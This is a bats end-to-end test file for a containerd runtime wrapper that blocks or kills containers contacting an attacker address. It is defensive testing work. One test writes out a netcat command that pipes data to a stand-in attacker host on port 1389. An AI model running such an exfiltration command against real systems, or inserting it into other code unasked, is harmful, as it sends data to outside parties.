#!/usr/bin/env bats
# SPDX-License-Identifier: Apache-2.0
# containerd, through `ctr run --runc-binary`.

load story
# shellcheck source=tests/harness/engine_podman.sh
source "$E2E_DIR/../harness/engine_podman.sh"
# shellcheck source=tests/harness/engine_containerd.sh
source "$E2E_DIR/../harness/engine_containerd.sh"

setup_file() {
  story_open
  engines_open "$ROOTFS"
}
teardown_file() { story_close; }
setup() { attacker_forget_packets; }
teardown() {
  ctr_remove_all
  story_quiet
}

# wrapped ID FLAGS... -- COMMAND...
wrapped() {
  runtime_script "$SVC/bailiff-runc" "$SVC/bailiff.yaml"
  local id=$1
  shift
  ctr_run "$id" --runc-binary "$SVC/bailiff-runc" \
    --with-ns "network:$SCRATCH/netns/inside" \
    --annotation io.kubernetes.cri.image-name=registry.example/shop:1.4 "$@"
}

@test "refused, and what is not listed reached" {
  service "$REFUSE_POLICY"
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run wrapped refused --rm -- "${command[@]}"
  says "Operation not permitted"
  mapfile -d '' -t command < <(connects_to "$HARMLESS4")
  run wrapped visitor --rm -- "${command[@]}"
  says reached
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.container.id == "refused"
    and .bailiff.verdict == "denied"'
  nothing_left_of refused
}

@test "killed, and containerd knows" {
  service "$KILL_POLICY"
  run wrapped killed -- sh -c \
    "echo hello | nc -w 3 $ATTACKER4 1389; sleep 60"
  ((status == 137))
  (($(attacker_packets) == 0))
  event "$C2_RULE" '.bailiff.container.id == "killed"
    and .bailiff.outcome == "killed"'
}

@test "exec is covered" {
  service "$REFUSE_POLICY"
  wrapped entered --detach -- sleep 100
  mapfile -d '' -t command < <(connects_to "$ATTACKER4")
  run ctr tasks exec --exec-id more entered "${command[@]}"
  says "Operation not permitted"
}

@test "a container that cannot be protected does not start, and ctr says why" {
  service "$REFUSE_POLICY"
  service_stop
  truncate --size=-9 "$SVC/state/policy.bin"
  run wrapped unprotected --rm -- echo alive
  ((status != 0))
  [[ $output != *alive* ]]
  says policy.bin
}
